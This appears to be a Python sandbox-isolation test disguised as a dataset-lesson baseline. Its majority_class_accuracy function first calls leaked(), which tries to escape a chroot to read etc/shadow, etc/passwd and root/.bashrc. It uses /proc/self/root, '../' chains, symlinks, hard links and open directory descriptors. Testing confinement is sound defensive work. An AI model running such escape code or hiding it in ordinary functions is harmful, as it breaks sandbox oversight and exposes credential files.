"""Tries: leaves its root: by /proc/self/root, by open folders, by links made and moved, by dots, and by descriptors of its parents.
Must: its root is all there is.
Exercise: lesson_05_datasets/baseline
"""

import contextlib
import os

TARGETS = ("etc/shadow", "etc/passwd", "work/main/pyproject.toml", "root/.bashrc", "old_root/etc/passwd")


def leaked():
    os.makedirs("in/out", exist_ok=True)
    starts = [
        "/proc/self/root",
        "/proc/self/cwd/../../../..",
        "/proc/1/root",
        "/old",
        "/.old",
        "/old_root",
        "../" * 30,
    ]
    for number, target in enumerate(TARGETS):
        for make in (os.symlink, os.link, os.rename):
            with contextlib.suppress(OSError):
                make(f"/{target}", f"in/made{number}{make.__name__}")
                return open(f"in/made{number}{make.__name__}").read(20)
        for start in starts:
            with contextlib.suppress(OSError):
                return start, open(f"{start}/{target}").read(20)
        for descriptor in range(3, 128):
            with contextlib.suppress(OSError):
                return descriptor, os.read(os.open(target, os.O_RDONLY, dir_fd=descriptor), 20)
            with contextlib.suppress(OSError):
                return descriptor, os.read(os.open("../" * 20 + target, os.O_RDONLY, dir_fd=descriptor), 20)
    return None


def majority_class_accuracy(train, test):
    found = leaked()
    if not found:
        raise PermissionError("nothing")
    print(found)
    return float((test["action"] == train["action"].mode()[0]).mean())
